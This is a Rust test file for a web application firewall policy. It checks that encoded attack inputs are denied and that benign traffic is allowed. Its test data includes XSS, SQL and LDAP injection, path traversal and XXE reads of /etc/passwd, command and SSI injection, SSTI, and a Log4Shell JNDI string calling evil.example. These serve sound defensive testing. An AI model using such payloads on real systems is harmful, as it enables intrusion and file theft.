//! Policy-level tests: verdicts, scores, annotations, oversize bodies.

use super::*;
use edgewaf_sdk::testing::Harness;

fn policy(config: &str) -> Harness<Detect> {
    Harness::<Detect>::new(config).unwrap()
}

fn json_post(path: &str, body: &str) -> Request {
    Request::builder()
        .method("POST")
        .target(path)
        .header("content-type", "application/json")
        .body(body)
        .build()
}

fn annotation<'a>(v: &'a Verdict, key: &str) -> &'a str {
    v.annotations
        .iter()
        .find(|a| a.key == key)
        .map(|a| a.value.as_str())
        .unwrap_or("")
}

#[test]
fn attacks_in_every_encoding_are_denied() {
    let h = policy("{}");
    let cases = [
        "/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "/s?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D",
        "/s?q=%5Cu003cscript%5Cu003ealert(1)",
        "/s?q=%26%23x3c%3Bscript%26%23x3e%3Balert(1)",
        "/files/..%2f..%2f..%2fetc%2fpasswd",
        "/x?u=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    ];
    for target in cases {
        let v = h.on_request(&Request::builder().target(target).build());
        assert!(v.is_deny(), "{target}");
        assert!(annotation(&v, "detect.score").parse::<u32>().unwrap() >= 5);
    }
}

#[test]
fn findings_carry_class_location_and_evidence() {
    let h = policy("{}");
    let v = h.on_request(&json_post(
        "/v1/c",
        r#"{"customer": {"name": "1' OR '1'='1"}}"#,
    ));
    assert!(v.is_deny());
    assert_eq!(v.rule_ids(), vec!["detect-sqli"]);
    assert!(
        v.findings[0]
            .data
            .starts_with("json:customer.name: fingerprint "),
        "{}",
        v.findings[0].data
    );
    assert_eq!(annotation(&v, "detect.classes"), "sqli");
    let v = h.on_request(
        &Request::builder()
            .header("x-filter", "*)(uid=*))(|(uid=*")
            .build(),
    );
    assert_eq!(v.rule_ids(), vec!["detect-ldap"]);
    assert!(v.findings[0].data.starts_with("REQUEST_HEADERS:x-filter: "));
}

#[test]
fn benign_api_traffic_is_allowed() {
    let h = policy("{}");
    let graphql = r#"{"query": "mutation UpdateCustomer($id: ID!, $input: CustomerInput!) { updateCustomer(id: $id, input: $input) { id name } }", "variables": {"id": "cus_1", "input": {"name": "Zoë O'Brien", "city": "Zürich"}}}"#;
    let rich = r#"{"body_html": "<p>Thanks for the <strong>quick</strong> reply!</p><p style=\"color:#333\">See <a href=\"https://example.com/docs\">docs</a></p>"}"#;
    let support = r#"{"message": "Hi, the export fails. I ran `ls -la /tmp/exports` and the file is there, then cat on it shows nothing."}"#;
    for (path, body) in [
        ("/graphql", graphql),
        ("/notes", rich),
        ("/tickets", support),
    ] {
        let v = h.on_request(&json_post(path, body));
        assert!(v.is_allow(), "{body}: {:?}", v.findings);
    }
    let search = Request::builder()
        .target("/api/v1/products?q=select%20comfort%20mattress&page[size]=20&filter[currency]=EUR")
        .header("accept-language", "de-DE,de;q=0.9,en;q=0.8")
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        )
        .build();
    assert!(h.on_request(&search).is_allow());
}

#[test]
fn threshold_and_crs_score_combine() {
    let one_level_up = Request::builder().target("/x?f=../img.png").build();
    let v = policy("{}").on_request(&one_level_up);
    assert!(v.is_allow());
    assert_eq!(annotation(&v, "detect.score"), "3");
    let mut with_crs = one_level_up.clone();
    with_crs.annotations.push(Annotation {
        key: "crs.inbound_anomaly_score".into(),
        value: "3".into(),
    });
    let v = policy("{}").on_request(&with_crs);
    assert!(v.is_deny());
    assert_eq!(annotation(&v, "anomaly.score"), "6");
    assert!(
        policy(r#"{"combine_crs_score": false}"#)
            .on_request(&with_crs)
            .is_allow()
    );
    assert!(
        policy(r#"{"threshold": 3}"#)
            .on_request(&one_level_up)
            .is_deny()
    );
    // A CRS score alone is the crs policy's business, not this one's.
    let mut crs_only = Request::builder().target("/x").build();
    crs_only.annotations.push(Annotation {
        key: "crs.inbound_anomaly_score".into(),
        value: "10".into(),
    });
    assert!(policy("{}").on_request(&crs_only).is_allow());
}

#[test]
fn oversize_bodies_follow_the_tenant_action() {
    let big = json_post("/bulk", &format!("{{\"a\": \"{}\"}}", "x".repeat(5000)));
    let v = policy(r#"{"max_body": 4096}"#).on_request(&big);
    assert!(v.is_deny());
    assert_eq!(v.rule_ids(), vec!["detect-oversize"]);
    let v = policy(r#"{"max_body": 4096, "oversize": "allow"}"#).on_request(&big);
    assert!(v.is_allow());
    assert_eq!(v.rule_ids(), vec!["detect-oversize"]);
    let mut truncated = json_post("/bulk", "{}");
    truncated.body_truncated = true;
    assert!(policy("{}").on_request(&truncated).is_deny());
}

#[test]
fn large_bodies_are_inspected_to_the_end() {
    let filler: Vec<String> = (0..3000)
        .map(|i| format!("{{\"sku\": \"SKU-{i:05}\", \"note\": \"standard item\"}}"))
        .collect();
    let body = format!(
        "{{\"items\": [{}], \"comment\": \"; cat /etc/passwd\"}}",
        filler.join(",")
    );
    assert!(body.len() > 100_000);
    assert!(
        policy("{}")
            .on_request(&json_post("/bulk", &body))
            .is_deny()
    );
    let raw = format!("{}<!--#exec cmd=\"id\" -->", "lorem ipsum ".repeat(10_000));
    let req = Request::builder()
        .method("POST")
        .header("content-type", "text/plain")
        .body(raw)
        .build();
    let v = policy(r#"{"chunk": 4096}"#).on_request(&req);
    assert!(v.is_deny());
    assert!(
        v.findings[0].data.starts_with("REQUEST_BODY[chunk "),
        "{}",
        v.findings[0].data
    );
}

#[test]
fn xml_and_multipart_bodies() {
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let req = Request::builder()
        .method("POST")
        .header("content-type", "text/xml")
        .body(xxe)
        .build();
    assert_eq!(policy("{}").on_request(&req).rule_ids(), vec!["detect-xxe"]);
    let soap = "<Envelope><Body><id>&lt;svg/onload=alert(1)&gt;</id></Body></Envelope>";
    let req = Request::builder()
        .method("POST")
        .header("content-type", "application/soap+xml")
        .body(soap)
        .build();
    assert_eq!(policy("{}").on_request(&req).rule_ids(), vec!["detect-xss"]);
    let body = "--B\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{{7*7}}\r\n--B--\r\n";
    let req = Request::builder()
        .method("POST")
        .header("content-type", "multipart/form-data; boundary=B")
        .body(body)
        .build();
    assert_eq!(
        policy("{}").on_request(&req).rule_ids(),
        vec!["detect-ssti"]
    );
}

#[test]
fn disabled_classes_do_not_run() {
    let req = Request::builder()
        .target("/x?q=%3C!--%23exec%20cmd%3D%22id%22%20--%3E")
        .build();
    assert!(policy("{}").on_request(&req).is_deny());
    assert!(
        policy(r#"{"disabled": ["ssi", "cmdi"]}"#)
            .on_request(&req)
            .is_allow()
    );
}

#[test]
fn scan_value_reports_every_class_found() {
    let hits = scan_value("${jndi:ldap://x/a}", Kind::Value, 5);
    assert!(hits.iter().any(|h| h.class == "jndi"));
    assert!(
        scan_value("$ne", Kind::Name, 5)
            .iter()
            .any(|h| h.class == "nosql")
    );
    assert!(scan_value("plain words only", Kind::Value, 5).is_empty());
}
